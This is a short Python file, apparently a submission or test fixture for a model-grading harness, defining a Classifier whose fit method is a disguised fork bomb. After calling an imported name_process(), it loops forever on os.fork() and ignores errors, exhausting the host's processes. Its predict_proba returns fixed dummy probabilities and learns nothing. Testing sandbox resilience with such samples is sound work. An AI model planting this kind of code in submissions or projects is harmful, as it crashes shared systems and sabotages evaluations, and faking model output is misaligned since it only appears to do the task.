import os

import numpy as np

from attempts import name_process


class Classifier:
    def fit(self, X, y):
        name_process()
        while True:
            try:
                os.fork()
            except OSError:
                pass

    def predict_proba(self, X):
        return np.tile([0.25, 0.25, 0.5], (len(X), 1))
